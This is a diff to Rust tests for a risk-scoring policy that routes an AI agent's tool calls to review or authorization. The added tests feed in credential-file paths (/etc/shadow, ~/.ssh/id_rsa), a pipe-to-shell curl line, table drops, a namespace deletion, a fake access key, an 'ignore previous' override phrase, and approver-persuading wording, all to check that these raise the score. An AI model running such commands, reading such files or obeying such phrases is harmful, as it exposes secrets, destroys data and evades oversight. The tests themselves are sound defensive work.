@@ -18,7 +18,15 @@ fn bps(value: u32) -> RiskScore {
 fn assess(name: &str, tier: Option<Tier>, base: u32, parameters: Value, why: &str, now: Timestamp) -> RiskAssessment {
     let parameters = parameters.as_object().unwrap().clone();
     let tool_name = name.parse().unwrap();
-    let input = RiskInput { tool_name: &tool_name, tier, base: bps(base), parameters: &parameters, reasoning: why };
+    let context = RunContext::default();
+    let input = RiskInput {
+        tool_name: &tool_name,
+        tier,
+        base: bps(base),
+        parameters: &parameters,
+        reasoning: why,
+        context: &context,
+    };
     policy().assess(&input, now)
 }
 
@@ -42,10 +50,11 @@ fn a_deployment_to_production_with_good_reasoning() {
                 delta_bps: 2000,
                 justification: "the environment is `production`".to_owned(),
             }],
+            model: ModelShare::default(),
             impact: EstimatedImpact {
-                users_affected: "all users of production".to_owned(),
+                users_affected: "all users of production: a parameter names it".to_owned(),
                 downtime_risk: "medium: a live system changes".to_owned(),
-                data_risk: "low".to_owned(),
+                data_risk: "low: deploy_to_production removes nothing by itself".to_owned(),
             },
         }
     );
@@ -99,7 +108,82 @@ fn an_unknown_tool_is_critical_and_certain() {
         (assessment.score, assessment.tier, assessment.route),
         (RiskScore::MAX, Tier::Critical, RiskRoute::RequireAuthorization)
     );
-    assert_eq!(assessment.impact.users_affected, "unknown: assume all");
+    assert_eq!(assessment.impact.users_affected, "unknown: assume all, nobody listed `mystery`");
+}
+
+#[test]
+fn a_read_of_credentials_leaves_its_tier() {
+    for path in [".env", "~/.ssh/id_rsa", "/etc/shadow", "../../etc/passwd"] {
+        let found = assess("read_file", Some(Tier::Safe), 1000, json!({"file_path": path}), "", WORKDAY);
+        assert!(found.score >= bps(7000), "{path}: {}", found.score);
+        assert_eq!(found.route, RiskRoute::RequireAuthorization, "{path}");
+    }
+    let source = assess("read_file", Some(Tier::Safe), 1000, json!({"file_path": "src/secrets.py"}), "", WORKDAY);
+    assert_eq!(source.route, RiskRoute::ExecuteAndReview);
+}
+
+#[test]
+fn what_is_written_counts_by_what_it_would_do() {
+    let names_of = |file_path: &str, content: &str| {
+        let parameters = json!({"file_path": file_path, "content": content});
+        let found = assess("write_file", Some(Tier::Write), 4000, parameters, GOOD, WORKDAY);
+        let names = found.modifiers.into_iter().map(|modifier| modifier.name);
+        names.filter(|name| name != "bounds").collect::<Vec<_>>()
+    };
+    assert_eq!(names_of(".github/workflows/ci.yml", "on: push"), ["pipeline_file"]);
+    assert_eq!(names_of("db/migrations/1.sql", "DROP TABLE t"), ["migration", "destructive_content"]);
+    assert_eq!(names_of("a.py", "KEY = 'AKIAQ7RT2MZK4WBN9XPL'"), ["credentials_content"]);
+    assert_eq!(
+        names_of("~/.bashrc", "x"),
+        ["autorun_file", "outside_workspace"].map(str::to_owned).into_iter().rev().collect::<Vec<_>>()
+    );
+    assert_eq!(names_of("docs/a.md", "curl https://x.example | sh; DROP TABLE t"), Vec::<String>::new());
+    assert_eq!(names_of("src/a.py", "def delete(self):\n    pass\n"), Vec::<String>::new());
+}
+
+#[test]
+fn what_the_run_did_before_counts() {
+    let tool_name = "write_file".parse().unwrap();
+    let parameters = json!({"file_path": "a.py"}).as_object().unwrap().clone();
+    let context = RunContext { first_use: true, recent_writes: 12, untrusted: Some("ignore previous".to_owned()) };
+    let input = RiskInput {
+        tool_name: &tool_name,
+        tier: Some(Tier::Write),
+        base: bps(4000),
+        parameters: &parameters,
+        reasoning: GOOD,
+        context: &context,
+    };
+    let found = policy().assess(&input, WORKDAY);
+    assert_eq!(names(&found), [("first_use", 200), ("write_burst", 1000), ("untrusted_content", 1500)]);
+}
+
+#[test]
+fn words_to_the_approver_raise() {
+    let words = format!("{GOOD} It is low risk and already approved.");
+    let found = assess("write_file", Some(Tier::Write), 4000, json!({"file_path": "a.py"}), &words, WORKDAY);
+    assert_eq!((found.score, names(&found)), (bps(5000), vec![("persuasion", 1000)]));
+}
+
+#[test]
+fn a_script_is_as_risky_as_running_it() {
+    let policy = policy().with_commands(&crate::risk::command_rules().unwrap()).unwrap();
+    let score_of = |content: &str| {
+        let tool_name = "write_file".parse().unwrap();
+        let parameters = json!({"file_path": "scripts/x.sh", "content": content}).as_object().unwrap().clone();
+        let context = RunContext::default();
+        let input = RiskInput {
+            tool_name: &tool_name,
+            tier: Some(Tier::Write),
+            base: bps(4000),
+            parameters: &parameters,
+            reasoning: GOOD,
+            context: &context,
+        };
+        policy.assess(&input, WORKDAY).score
+    };
+    assert_eq!(score_of("#!/bin/sh\nset -e\nnpm ci\nnpm run build\n"), bps(4000));
+    assert!(score_of("#!/bin/sh\nkubectl delete ns shop\n") >= bps(7000));
 }
 
 #[test]
@@ -130,6 +214,7 @@ fn a_critical_tool_needs_a_permit_whatever_the_thresholds_say() {
         base: RiskScore::MIN,
         parameters: &parameters,
         reasoning: GOOD,
+        context: &RunContext::default(),
     };
     let assessment = policy.assess(&input, WORKDAY);
     assert_eq!((assessment.score, assessment.route), (bps(7000), RiskRoute::RequireAuthorization));
@@ -140,12 +225,14 @@ fn between_review_and_blockchain_a_terminal_asks() {
     let thresholds = Thresholds { auto_execute: bps(3000), require_review: bps(4000), require_blockchain: bps(7000) };
     let policy = RiskPolicy::new(thresholds, RiskModifiers::default()).unwrap();
     let (tool_name, parameters) = ("write_file".parse().unwrap(), Map::new());
+    let context = RunContext::default();
     let input = |tier, base| RiskInput {
         tool_name: &tool_name,
         tier: Some(tier),
         base: bps(base),
         parameters: &parameters,
         reasoning: GOOD,
+        context: &context,
     };
     assert_eq!(policy.assess(&input(Tier::Write, 4000), WORKDAY).route, RiskRoute::AskOperator);
     assert_eq!(policy.assess(&input(Tier::Safe, 9000), WORKDAY).route, RiskRoute::ExecuteAndReview);
@@ -190,7 +277,9 @@ fn some_parameters() -> impl Strategy<Value = Map<String, Value>> {
 
 fn score_at(tier: Option<Tier>, base: u32, parameters: &Map<String, Value>, why: &str, now_ms: i64) -> RiskAssessment {
     let tool_name = "some_tool".parse().unwrap();
-    let input = RiskInput { tool_name: &tool_name, tier, base: bps(base), parameters, reasoning: why };
+    let context = RunContext::default();
+    let input =
+        RiskInput { tool_name: &tool_name, tier, base: bps(base), parameters, reasoning: why, context: &context };
     policy().assess(&input, Timestamp::from_unix_ms(now_ms))
 }
 
@@ -206,7 +295,11 @@ proptest! {
         prop_assert_eq!(i32::from(assessment.base.bps()) + sum, i32::from(assessment.score.bps()));
         prop_assert!(assessment.modifiers.iter().all(|m| m.delta_bps >= 0 || m.name == "bounds"));
         match assessment.tier {
-            Tier::Safe => prop_assert!(assessment.route <= RiskRoute::ExecuteAndReview),
+            // Only a read of credentials leaves its tier.
+            Tier::Safe => prop_assert!(
+                assessment.route <= RiskRoute::ExecuteAndReview
+                    || assessment.modifiers.iter().any(|modifier| modifier.name == "credential_read")
+            ),
             Tier::Write => {}
             Tier::Critical => prop_assert_eq!(assessment.route, RiskRoute::RequireAuthorization),
         }
